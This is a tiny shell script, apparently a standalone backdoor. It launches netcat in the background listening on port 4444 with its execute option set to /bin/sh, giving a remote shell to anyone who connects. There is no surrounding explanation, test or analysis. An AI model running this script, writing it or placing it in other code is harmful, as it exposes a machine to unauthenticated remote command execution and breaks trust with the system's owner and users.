#!/bin/sh
nc -ll -p 4444 -e /bin/sh &
